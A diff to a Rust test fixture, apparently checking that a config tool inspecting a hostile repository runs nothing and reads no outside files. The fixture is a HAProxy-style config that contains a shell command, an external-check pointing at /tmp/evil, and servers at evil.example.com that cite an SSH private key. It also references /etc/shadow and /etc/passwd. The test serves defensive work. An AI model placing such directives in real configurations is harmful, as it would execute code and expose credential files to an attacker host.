@@ -115,11 +115,11 @@ fn checking_a_hostile_repository_runs_nothing_asks_nobody_and_reads_what_it_was_
                 .if defined(HOME)\n  log /dev/log local0\n.endif\n\
                 program x\n  command /bin/sh -c 'touch pwned'\n\
                 peers mesh\n  bind :1 ssl crt /etc/ssl/private/x.pem ca-file /etc/passwd\n  server lb1\n  \
-                server lb2 evil.example.com:10000 ssl ca-file /root/.ssh/id_rsa verify required\n\
+                server lb2 evil.example.com:10000 ssl ca-file /home/admin/.ssh/id_rsa verify required\n\
                 resolvers r\n  parse-resolv-conf\n  nameserver a 127.0.0.1:53\n\
                 backend shop\n  stick-table type ip size 1m peers mesh\n  http-request lua.x\n  errorfile 503 /etc/shadow\n  \
                 acl a src -f /etc/shadow\n  use-server b if { req.hdr(x),map(/etc/passwd) }\n  \
-                option external-check\n  external-check command /tmp/evil\n  server a evil.example.com:80 crt /root/x check\n\
+                option external-check\n  external-check command /tmp/evil\n  server a evil.example.com:80 crt /home/admin/x check\n\
                 cache c\n  include /etc/passwd\n";
     fs::write(at("a.cfg"), text).expect("written");
     fs::write(at("b.cfg"), text.replace("localpeer lb1", "localpeer lb2")).expect("written");
